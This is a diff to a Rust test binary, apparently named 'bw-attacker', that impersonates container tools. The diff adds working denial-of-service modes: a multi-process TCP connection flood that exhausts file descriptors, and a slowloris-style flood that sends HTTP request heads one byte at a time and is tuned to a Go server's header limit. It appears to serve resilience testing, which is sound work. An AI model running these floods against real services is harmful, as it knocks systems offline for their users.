@@ -17,11 +17,84 @@ fn main() {
         "dockerd" => fake_registry_fetch(args.get(1).map_or("advfake", String::as_str)),
         _ => match args.get(1).map(String::as_str) {
             Some("forge-pull") => forge_pull(&args[2], &args[3]),
+            Some("connect-flood") => connect_flood(&args[2], parse(&args[3]), parse(&args[4])),
+            Some("connect-batch") => connect_batch(&args[2], parse(&args[3])),
+            Some("byte-flood") => byte_flood(&args[2], parse(&args[3]), parse(&args[4])),
             _ => {
-                eprintln!("usage: bw-attacker forge-pull PORT IMAGE | (as podman) | (as dockerd) NAME");
+                eprintln!("usage: bw-attacker forge-pull PORT IMAGE | connect-flood ADDR TOTAL PROCESSES | byte-flood ADDR CONNECTIONS SECONDS | (as podman) | (as dockerd) NAME");
                 std::process::exit(2);
             }
         },
+    }
+}
+
+fn parse(text: &str) -> usize {
+    text.parse().expect("a number")
+}
+
+/// `processes` processes, each connecting `ADDR` (ip:port) as often as its fd limit allows and
+/// leaving without closing: the kernel closes them at exit, with no close() to see.
+fn connect_flood(address: &str, total: usize, processes: usize) {
+    let per_process = total.div_ceil(processes);
+    let me = std::env::current_exe().expect("own path");
+    let children: Vec<_> = (0..processes)
+        .map(|_| {
+            std::process::Command::new(&me)
+                .args(["connect-batch", address, &per_process.to_string()])
+                .spawn()
+                .expect("spawning a batch")
+        })
+        .collect();
+    for mut child in children {
+        let _ = child.wait();
+    }
+}
+
+fn connect_batch(address: &str, count: usize) {
+    let mut open = Vec::new();
+    for _ in 0..count {
+        match TcpStream::connect(address) {
+            Ok(stream) => open.push(stream),
+            Err(_) => break,
+        }
+    }
+    std::mem::forget(open);
+    std::process::exit(0);
+}
+
+/// `connections` connections to ADDR, each writing a request head one byte per write for
+/// `seconds`.
+fn byte_flood(address: &str, connections: usize, seconds: usize) {
+    let deadline = std::time::Instant::now() + Duration::from_secs(seconds as u64);
+    let workers: Vec<_> = (0..connections)
+        .map(|_| {
+            let address = address.to_string();
+            std::thread::spawn(move || {
+                while std::time::Instant::now() < deadline {
+                    let Ok(mut stream) = TcpStream::connect(&address) else {
+                        std::thread::sleep(Duration::from_millis(50));
+                        continue;
+                    };
+                    let _ = stream.set_nodelay(true);
+                    let head = b"GET /_ping HTTP/1.1\r\nX-Flood: ";
+                    let mut sent = 0usize;
+                    while std::time::Instant::now() < deadline {
+                        let byte = if sent < head.len() { head[sent] } else { b'a' };
+                        if stream.write_all(&[byte]).is_err() {
+                            break;
+                        }
+                        sent += 1;
+                        // Go's server refuses a head past 1 MiB: start another before that.
+                        if sent > 512 * 1024 {
+                            break;
+                        }
+                    }
+                }
+            })
+        })
+        .collect();
+    for worker in workers {
+        let _ = worker.join();
     }
 }
 
